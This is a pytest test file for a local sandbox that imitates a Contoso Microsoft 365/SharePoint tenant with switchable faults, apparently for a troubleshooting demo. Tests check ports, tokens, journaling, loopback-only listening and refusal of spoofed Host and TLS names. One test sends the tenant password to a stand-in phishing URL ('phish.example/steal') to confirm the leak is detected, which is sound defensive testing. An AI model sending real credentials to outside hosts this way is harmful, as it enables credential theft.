"""Starting, controlling and stopping a sandbox."""

import re
import socket
import ssl
import subprocess
import sys
import time

import pytest

from troubleshooter import sandbox


def test_a_list_of_faults_needs_no_server_and_no_drawing():
    """Importing the package loads neither a web server nor a drawing library."""
    heavy = "{'starlette', 'PIL', 'jinja2'} & {*sys.modules}"
    code = f"import sys, troubleshooter.sandbox as sandbox; print(bool(sandbox.FAULTS), {heavy})"
    said = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
    assert said.strip() == "True set()"


def test_every_fault_has_one_sentence():
    """Every description is one line that ends with a period, and the basic faults are there."""
    assert all(sentence.endswith(".") and "\n" not in sentence for sentence in sandbox.FAULTS.values())
    assert {
        "healthy", "stale-copy", "never-visited", "placeholder", "no-photo", "other-photo", "recropped", "broken-image",
        "slow-images", "subject-not-on-page", "page-missing", "wrong-password",
    } <= set(sandbox.FAULTS)  # fmt: skip


@pytest.mark.parametrize("wrong", [{"fault": "fire"}, {"generation": "third"}])
def test_an_unknown_name_is_refused_with_the_allowed_ones(wrong):
    """The error lists the names that exist, before anything is served."""
    with (
        pytest.raises(ValueError, match=r"no such (fault|generation), allowed: .*(healthy|mailbox)"),
        sandbox.running(**wrong),
    ):
        pass


def test_the_given_port_and_password_are_used():
    """A given port and password are used; without them, the port is free and the password is new."""
    with sandbox.running() as one:
        port, password = one.port, one.password
    with sandbox.running(port=port, password="pa ss") as two:
        assert (two.port, two.password) == (port, "pa ss")
    assert len(password) >= 12


def test_tokens_begin_as_a_test_wants_them(enter):
    """With a token prefix, cookies, sign-in parameters and URL signatures begin with it."""
    with sandbox.running(token_prefix="KNOWN") as running:
        visitor = enter(running=running)
        address = visitor.userphoto(running.subject).url
        cookies = {value for jar in visitor.cookies.values() for value in jar.values()}
        queries = [entry.query for entry in running.journal.requests if entry.path.endswith("/authorize")]
        visitor.close()
    assert cookies and all(value.startswith("KNOWN") for value in cookies)
    assert queries and all("state=KNOWN" in query for query in queries)
    assert re.search(r"_oat_=\d+_KNOWN", address)


def test_a_run_knows_what_the_demo_needs(tenant):
    """A running sandbox provides names, URLs, accounts and pages."""
    assert tenant.subject == tenant.accounts["ana"] == "ana.popescu@contoso.com"
    assert {"helpdesk", "ioana"} <= set(tenant.accounts)
    assert len(tenant.pages) == 2
    assert all(page.startswith(f"{tenant.sharepoint}/sites/communications/SitePages/") for page in tenant.pages)
    assert (tenant.name, tenant.home, tenant.my) == (
        "Contoso",
        "https://www.office.com",
        "https://contoso-my.sharepoint.com",
    )


def test_the_end_does_not_wait_for_open_connections(stranger):
    """Neither an idle connection nor one that waits for a photo delays stopping the sandbox."""
    with sandbox.running("slow-images") as running:
        idle, waiting = type(stranger)(running), type(stranger)(running)
        idle.visit("https://www.office.com/")
        waiting.sign_in(running.subject)
        waiting.visit(running.sharepoint)
        address = waiting.ask(f"{running.sharepoint}/_layouts/15/userphoto.aspx?accountname={running.subject}")
        connection = waiting._connect()
        cookies = "; ".join(f"{k}={v}" for k, v in waiting.cookies["contoso.sharepoint.com"].items())
        target = address.headers["location"]
        connection.request("GET", target, headers={"Host": "contoso.sharepoint.com", "Cookie": cookies})
        started = time.monotonic()
    assert time.monotonic() - started < 2
    with pytest.raises((ConnectionError, ssl.SSLError)):
        connection.getresponse()
    idle.close()
    waiting.close()


def test_requests_are_journaled_by_kind(tenant, stranger):
    """The journal distinguishes the tenant's own hosts, the browser vendor's hosts, and all others."""
    for host in ("www.office.com", "update.googleapis.com", "accounts.google.com", "login.microsoftonline.example"):
        stranger.ask(f"https://{host}/somewhere?x=1")
    assert [(entry.host, entry.kind, entry.status) for entry in tenant.journal.requests] == [
        ("www.office.com", "tenant", 404),
        ("update.googleapis.com", "browser", 404),
        ("accounts.google.com", "browser", 404),
        ("login.microsoftonline.example", "unexpected", 421),
    ]
    assert {entry.query for entry in tenant.journal.requests} == {"x=1"}


@pytest.mark.parametrize(
    "name", ["rebound.example", "localhost", "127.0.0.1", "www.office.com.rebound.example", "x@www.office.com"]
)
@pytest.mark.parametrize("path", ["/", "/state", "/_api/SP.UserProfiles.PeopleManager/GetMyProperties"])
def test_another_host_name_is_refused(tenant, stranger, name, path):
    """A request under a name that is not the tenant's gets 421, as a page does that leads its own name here."""
    assert 421 == stranger.ask("https://www.office.com" + path, headers={"Host": name}).status


@pytest.mark.parametrize(
    ("name", "status"), [("www.office.com", 200), ("sandbox.invalid", 200), ("rebound.example", 421), (None, 200)]
)
def test_another_name_in_tls_is_refused(tenant, name, status):
    """A connection for another host name gets 421 whatever its Host header; one without a name is served."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with (
        socket.create_connection(("127.0.0.1", tenant.port), 10) as plain,
        context.wrap_socket(plain, server_hostname=name) as line,
    ):
        line.sendall(b"GET /state HTTP/1.1\r\nHost: sandbox.invalid\r\nConnection: close\r\n\r\n")
        assert str(status) == line.makefile("rb").readline().split()[1].decode()


def test_only_loopback_is_listened_on(tenant):
    """The sandbox's port is open on 127.0.0.1, and closed on every other address of this computer."""
    socket.create_connection(("127.0.0.1", tenant.port), 10).close()
    others = {"::1", "127.0.0.2", *(found[4][0] for found in socket.getaddrinfo(socket.gethostname(), None))}
    for address in others - {"127.0.0.1"}:
        with pytest.raises(OSError, match=r"refused|timed out|unreachable|assign|not supported"):
            socket.create_connection((address, tenant.port), 2)


@pytest.mark.parametrize("how", [{"data": {"x": "PASSWORD"}}, {"headers": {"Authorization": "Basic PASSWORD"}}, {}])
def test_a_password_is_noticed_wherever_it_goes(tenant, stranger, how):
    """A password in a body, a header or a URL is noticed but never stored."""
    written = {kind: {k: v.replace("PASSWORD", tenant.password) for k, v in part.items()} for kind, part in how.items()}
    address = "https://phish.example/steal" + ("" if how else f"?p={tenant.password}")
    stranger.ask(address, **written)
    (credential,) = tenant.journal.credentials
    assert (credential.host, credential.path, credential.right) == ("phish.example", "/steal", False)


def test_the_clock_moves_forward_only(tenant):
    """The clock moves forward only, so it refuses a negative step."""
    before = tenant.now()
    tenant.advance(3600)
    assert 3600 <= (tenant.now() - before).total_seconds() < 3660
    with pytest.raises(ValueError, match="only moves forward"):
        tenant.advance(-1)


def test_the_control_host_answers_on_its_own_name_only(tenant, stranger):
    """The control host's paths do not exist on other hosts."""
    assert stranger.ask("https://sandbox.invalid/state").status == 200
    assert stranger.ask("https://www.office.com/state").status == 404


def test_another_process_can_control_the_sandbox(tenant, stranger):
    """Another process can read the state and the journal, advance the clock, switch the fault, and reset."""
    ask = stranger.ask
    state = ask("https://sandbox.invalid/state").json
    assert (state["fault"], state["subject"], state["pages"]) == ("healthy", tenant.subject, list(tenant.pages))
    assert tenant.password not in str(state)
    before = tenant.now()
    ask("https://sandbox.invalid/advance", data='{"seconds": 7200}')
    assert (tenant.now() - before).total_seconds() >= 7200
    assert ask("https://sandbox.invalid/fault", data='{"name": "no-photo"}').json["fault"] == "no-photo"
    assert tenant.fault == "no-photo"
    assert "/advance" in [entry["path"] for entry in ask("https://sandbox.invalid/journal").json["requests"]]
    ask("https://sandbox.invalid/reset", data="")
    assert tenant.fault == "healthy"
    assert (tenant.now() - before).total_seconds() < 3600


@pytest.mark.parametrize(
    ("path", "body", "reason"),
    [
        ("fault", '{"name": "fire"}', "allowed: healthy"),
        ("fault", "{}", "name: missing"),
        ("advance", '{"seconds": -5}', "only moves forward"),
        ("advance", "nonsense", "Expecting value"),
    ],
)
def test_a_wrong_command_is_refused_with_its_reason(stranger, path, body, reason):
    """A wrong command gets status 400 and the reason."""
    answer = stranger.ask(f"https://sandbox.invalid/{path}", data=body)
    assert answer.status == 400
    assert reason in answer.json["error"]


def test_the_fault_changes_while_it_is_served(tenant, enter):
    """A new fault replaces the stores, and sessions survive."""
    visitor = enter()
    assert visitor.properties(tenant.subject)["SPS-PicturePlaceholderState"] == "0"
    tenant.set_fault("placeholder")
    assert visitor.properties(tenant.subject)["SPS-PicturePlaceholderState"] == "1"
    with pytest.raises(ValueError, match="allowed"):
        tenant.set_fault("fire")
